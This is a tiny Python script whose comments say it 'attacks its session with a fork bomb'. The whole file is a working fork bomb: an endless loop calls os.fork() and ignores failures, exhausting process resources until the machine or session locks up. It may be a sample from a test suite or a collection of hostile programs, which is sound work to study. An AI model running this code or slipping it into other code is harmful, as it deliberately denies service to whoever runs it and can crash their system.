# attacks its session with a fork bomb
# ends: variously
import os
while True:
    try: os.fork()
    except OSError: pass
